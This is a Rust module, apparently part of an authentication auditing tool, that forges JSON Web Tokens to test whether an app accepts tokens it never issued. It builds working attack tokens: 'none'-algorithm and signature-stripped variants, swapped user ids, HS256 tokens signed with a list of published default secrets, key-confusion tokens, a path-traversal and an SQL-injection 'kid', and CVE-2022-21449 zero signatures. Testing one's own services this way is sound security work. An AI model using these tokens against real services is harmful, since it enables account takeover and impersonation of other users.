//! Tokens that nobody issued, made from one that somebody did.

use base64::Engine as _;
use base64::prelude::{BASE64_STANDARD, BASE64_URL_SAFE_NO_PAD};
use ring::hmac;
use ring::rand::SystemRandom;
use ring::signature::{Ed25519KeyPair, KeyPair as _};
use serde_json::{Value, json};

use crate::people::Person;

/// Secrets that stand in tutorials, templates and `.env.example` files of such apps.
const PUBLISHED_SECRETS: [&str; 30] = [
    "",
    "secret",
    "secretkey",
    "secret-key",
    "secret_key",
    "my-secret-key",
    "mysecretkey",
    "supersecret",
    "super-secret",
    "super-secret-key",
    "super-secret-jwt-token-with-at-least-32-characters-long",
    "your-secret-key",
    "your-secret-key-here",
    "your_secret_key",
    "your_secret_key_here",
    "your-secret-key-change-in-production",
    "your-super-secret-key",
    "your-super-secret-key-change-in-production",
    "your-256-bit-secret",
    "your_better_auth_secret",
    "your-better-auth-secret",
    "better-auth-secret",
    "better-auth-secret-123456789",
    "better-auth-secret-12345678901234567890",
    "change-me",
    "changeme",
    "change-this-secret-key-in-production",
    "dev-secret",
    "jwt-secret",
    "09d25e094faa6ca2556c818166b7a9563b93f7099f6f0f4caa6cf63b88e8d3e7",
];

/// How long a forged token would live.
const LIFETIME: i64 = 600;

pub(crate) struct Forged {
    /// Completes "a token …".
    pub(crate) what: String,
    pub(crate) token: String,
}

impl Forged {
    fn new(what: impl Into<String>, token: String) -> Self {
        Self {
            what: what.into(),
            token,
        }
    }
}

/// Claims that would be taken if the signature were.
fn claims(person: &Person) -> Value {
    let mut claims = person.claims().unwrap_or_else(|| json!({}));
    if let Some(ends) = claims["exp"].as_i64() {
        claims["exp"] = json!(ends + LIFETIME);
    }
    claims
}

fn encoded(header: &Value, claims: &Value) -> String {
    let encode = |value: &Value| BASE64_URL_SAFE_NO_PAD.encode(value.to_string());
    format!("{}.{}", encode(header), encode(claims))
}

fn hs256(header: &Value, claims: &Value, secret: &[u8]) -> String {
    let signed = encoded(header, claims);
    let key = hmac::Key::new(hmac::HMAC_SHA256, secret);
    let tag = hmac::sign(&key, signed.as_bytes());
    format!("{signed}.{}", BASE64_URL_SAFE_NO_PAD.encode(tag))
}

/// RFC 8725 §3.1: the algorithm `none`, however it is spelled.
pub(crate) fn unsigned(person: &Person) -> Vec<Forged> {
    let claims = claims(person);
    let algorithm = |alg: &str| {
        let signed = encoded(&json!({"alg": alg, "typ": "JWT"}), &claims);
        Forged::new(format!("with the algorithm `{alg}`"), format!("{signed}."))
    };
    let mut forged: Vec<Forged> = ["none", "None", "NONE", "nOnE", ""].map(algorithm).into();
    let (signed, _) = person.token.rsplit_once('.').unwrap_or_default();
    forged.push(Forged::new(
        "whose signature is empty",
        format!("{signed}."),
    ));
    forged.push(Forged::new("without a third part", signed.to_owned()));
    forged
}

/// Another person's id under the signature of the first one's.
pub(crate) fn relabelled(person: &Person, other: &Person) -> Vec<Forged> {
    let header = person.header().unwrap_or_default();
    let signature = person.token.rsplit('.').next().unwrap_or_default();
    let relabel = |names: &[&str]| {
        let mut claims = claims(person);
        for name in names {
            claims[*name] = json!(other.id);
        }
        let what = format!("whose `{}` was changed", names.join("`, `"));
        Forged::new(what, format!("{}.{signature}", encoded(&header, &claims)))
    };
    vec![
        relabel(&["sub"]),
        relabel(&["user_id"]),
        relabel(&["sub", "user_id", "id"]),
    ]
}

/// Signed by a secret that anybody can read.
pub(crate) fn published(person: &Person) -> Vec<Forged> {
    let header = json!({"alg": "HS256", "typ": "JWT"});
    PUBLISHED_SECRETS
        .map(|secret| {
            let what = format!("signed with the published secret `{secret}`");
            Forged::new(what, hs256(&header, &claims(person), secret.as_bytes()))
        })
        .into()
}

/// RFC 8725 §2.1: the public key taken for a shared secret.
pub(crate) fn confused(person: &Person, keys: &Value) -> Vec<Forged> {
    let claims = claims(person);
    let mut forged = Vec::new();
    for key in keys["keys"].as_array().into_iter().flatten() {
        let header = json!({"alg": "HS256", "typ": "JWT", "kid": key["kid"]});
        let mut secrets = vec![("as JSON", key.to_string().into_bytes())];
        let decode = |name: &str| {
            let text = key[name].as_str()?;
            BASE64_URL_SAFE_NO_PAD.decode(text).ok()
        };
        if let Some(bytes) = decode("x").or_else(|| decode("n")) {
            secrets.push(("as bytes", bytes));
        }
        if let Some(bytes) = decode("x").filter(|_| key["crv"] == "Ed25519") {
            secrets.push(("as PEM", ed25519_pem(&bytes).into_bytes()));
        }
        for (how, secret) in secrets {
            let what = format!("signed by HS256 with the public key {how}");
            forged.push(Forged::new(what, hs256(&header, &claims, &secret)));
        }
    }
    forged
}

/// RFC 8410 §4.
fn ed25519_pem(key: &[u8]) -> String {
    const ALGORITHM: [u8; 12] = [48, 42, 48, 5, 6, 3, 43, 101, 112, 3, 33, 0];
    let body = BASE64_STANDARD.encode([&ALGORITHM, key].concat());
    format!("-----BEGIN PUBLIC KEY-----\n{body}\n-----END PUBLIC KEY-----\n")
}

/// RFC 8725 §3.10 and CVE-2022-21449: keys that the token brings, names, or does without.
pub(crate) fn own_keys(person: &Person) -> Vec<Forged> {
    let claims = claims(person);
    let kid = person.header().unwrap_or_default()["kid"].clone();
    let file = json!({"alg": "HS256", "typ": "JWT", "kid": "../../../../../../dev/null"});
    let query = json!({"alg": "HS256", "typ": "JWT", "kid": "x' UNION SELECT 'key' -- "});
    let zeros = encoded(&json!({"alg": "ES256", "typ": "JWT", "kid": kid}), &claims);
    let mut forged = vec![
        Forged::new("whose `kid` is an empty file", hs256(&file, &claims, b"")),
        Forged::new("whose `kid` is SQL", hs256(&query, &claims, b"key")),
        Forged::new(
            "with an ES256 signature of zeros",
            format!("{zeros}.{}", BASE64_URL_SAFE_NO_PAD.encode([0; 64])),
        ),
    ];
    let pair = Ed25519KeyPair::generate_pkcs8(&SystemRandom::new())
        .ok()
        .and_then(|document| Ed25519KeyPair::from_pkcs8(document.as_ref()).ok());
    if let Some(pair) = pair {
        let x = BASE64_URL_SAFE_NO_PAD.encode(pair.public_key());
        let jwk = json!({"kty": "OKP", "crv": "Ed25519", "x": x});
        let headers = [
            (
                "that brings its own key in `jwk`",
                json!({"alg": "EdDSA", "jwk": jwk}),
            ),
            ("signed by a stranger", json!({"alg": "EdDSA", "kid": kid})),
        ];
        for (what, header) in headers {
            let signed = encoded(&header, &claims);
            let signature = BASE64_URL_SAFE_NO_PAD.encode(pair.sign(signed.as_bytes()));
            forged.push(Forged::new(what, format!("{signed}.{signature}")));
        }
    }
    forged
}
